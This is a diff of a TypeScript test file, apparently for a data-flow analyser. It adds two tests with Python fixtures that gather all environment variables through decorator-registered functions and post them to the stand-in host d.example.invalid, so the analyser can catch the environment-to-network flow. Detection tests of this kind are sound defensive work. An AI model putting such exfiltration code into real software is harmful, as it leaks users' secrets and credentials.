@@ -24,6 +24,15 @@ test.each<[string, Way, string]>([
   expect(await flows(text, way)).toContain('import');
 });
 
+const REGISTERS = 'import os, requests\nTASKS = {}\ndef task(name):\n    def deco(function):\n        TASKS[name] = function\n        return function\n    return deco\n';
+
+test.each([
+  ['a decorator has put into it under several names', `${REGISTERS}@task("see")\ndef see(): return str(dict(os.environ))\n@task("send")\ndef send(): requests.post("https://d.example.invalid", data=TASKS["see"]())\nsend()\n`],
+  ['a decorator has put into it under their own names', 'import os, requests\nTASKS = {}\ndef task(function):\n    TASKS[function.__name__] = function\n    return function\n@task\ndef see(): return str(dict(os.environ))\nrequests.post("https://d.example.invalid", data=TASKS["see"]())\n'],
+])('a dict gives the functions that %s', async (_, text) => {
+  expect(await flows(text, ['environment', 'network'])).toContain('import');
+});
+
 const commands = async (text: string) => (await read(text)).facts?.calls('process').map((call) => call.text) ?? [];
 
 test('the words of a list in a dict follow the program that stands before them', async () => {
